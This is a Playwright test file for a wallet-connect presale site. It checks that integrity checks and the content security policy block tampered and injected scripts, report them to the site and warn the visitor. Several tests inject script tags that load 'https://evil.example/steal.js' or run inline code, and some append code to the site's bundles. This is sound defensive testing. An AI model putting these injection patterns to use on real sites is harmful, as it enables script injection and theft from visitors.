import { expect, type Page } from '@playwright/test';
import { card } from '#tests/support/browser/card.ts';
import { word } from '#tests/support/browser/dictionary.ts';
import { test } from '#tests/support/browser/test.ts';
import { walletButton } from '#tests/support/browser/wallet.ts';

const RAN = 'the changed script ran';

/**
 * Changes the site's scripts of this name, at every address, as a CDN can, and expects that none runs after `act`:
 * neither at the first request nor at the second one, which is for another address.
 */
async function expectRefused(page: Page, name: string, act: () => Promise<unknown>): Promise<void> {
  const told: string[] = [];
  page.on('console', (message) => told.push(message.text()));
  await page.route(`**/_astro/${name}.*.js*`, async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: `${await response.text()}\n;console.warn('${RAN}');` });
  });
  await act();
  for (const end of [`.js'`, `.js?retry'`]) {
    const isRefused = (text: string) => /integrity/i.test(text) && text.includes(`/${name}.`) && text.includes(end);
    await expect.poll(() => told.some(isRefused), end).toBe(true);
  }
  expect(told).not.toContain(RAN);
}

const stolen = (page: Page) => page.evaluate(() => document.documentElement.dataset.stolen !== undefined);

test.beforeEach(({ watch }) => {
  watch.allow(/integrity|dynamically imported module|Failed to load/i);
});
// A page without a part of it is reloaded, and requests the changed file again.
test.afterEach(({ page }) => page.unrouteAll({ behavior: 'ignoreErrors' }));

test('a changed script of the first load does not run', async ({ page }) => {
  await expectRefused(page, 'PresaleCard', () => page.goto('/'));
  await expect(card(page)).toBeHidden();
});

test('a changed script that loads at a press does not run', async ({ page }) => {
  await page.goto('/');
  await expect(card(page).getByRole('button', { name: 'Connect Wallet' })).toBeEnabled();
  await expectRefused(page, 'WalletButton', () => walletButton(page).click());
});

test('a changed style sheet is not used', async ({ page }) => {
  await page.route('**/_astro/*.css', async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: `${await response.text()}\nbody{color:#123456}` });
  });
  await page.goto('/faq');
  await expect(page.locator('body')).not.toHaveCSS('color', 'rgb(18, 52, 86)');
});

test('what the policy blocks is reported to the site, without an address or a text of the visitor', async ({
  page,
  watch,
}) => {
  watch.allow(/content security policy/i);
  // Playwright names the request, which the browser never sends.
  watch.allowHosts(['evil.example']);
  await page.goto('/faq?wallet=0x12');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  const sent = page.waitForRequest('**/api/csp-report');
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.src = 'https://evil.example/steal.js?key=1';
    document.body.append(script);
  });
  const report = await sent;
  expect(report.postDataJSON()).toEqual({
    directive: 'script-src-elem',
    blocked: 'https://evil.example',
    path: '/faq',
  });
  expect((await report.response())?.status()).toBe(200);
});

test('a blocked script is named above the page once, in its language, with the way to check the site', async ({
  page,
  watch,
}) => {
  watch.allow(/content security policy/i);
  watch.allowHosts(['evil.example']);
  await page.goto('/ar/faq');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  const inject = () =>
    page.evaluate(() => {
      const script = document.createElement('script');
      script.src = 'https://evil.example/steal.js';
      document.body.append(script);
    });
  await inject();
  const notice = page.getByRole('alert');
  await expect(notice).toContainText(word('ar', 'error.blocked'));
  const again = page.waitForRequest('**/api/csp-report');
  await inject();
  await again;
  await expect(notice).toHaveCount(1);
  await notice.getByRole('link', { name: word('ar', 'error.blocked.check') }).click();
  await expect(page).toHaveURL('/ar/verify');
});

for (const [kind, script, blocked] of [
  ['foreign', '<script src="https://evil.example/steal.js"></script>', 'https://evil.example'],
  ['inline', "<script>document.documentElement.dataset.stolen = ''</script>", 'inline'],
] as const)
  test(`a script in the page’s own HTML (${kind}) is reported and named, though it is blocked before any module runs`, async ({
    page,
    watch,
  }) => {
    watch.allow(/content security policy/i);
    watch.allowHosts(['evil.example']);
    await page.route('/faq', async (route) => {
      const response = await route.fetch();
      await route.fulfill({ response, body: (await response.text()).replace(/<body[^>]*>/, `$&${script}`) });
    });
    const sent = page.waitForRequest('**/api/csp-report');
    await page.goto('/faq');
    expect((await sent).postDataJSON()).toEqual({ directive: 'script-src-elem', blocked, path: '/faq' });
    await expect(page.getByRole('alert')).toContainText(word('en', 'error.blocked'));
    expect(await stolen(page)).toBe(false);
  });
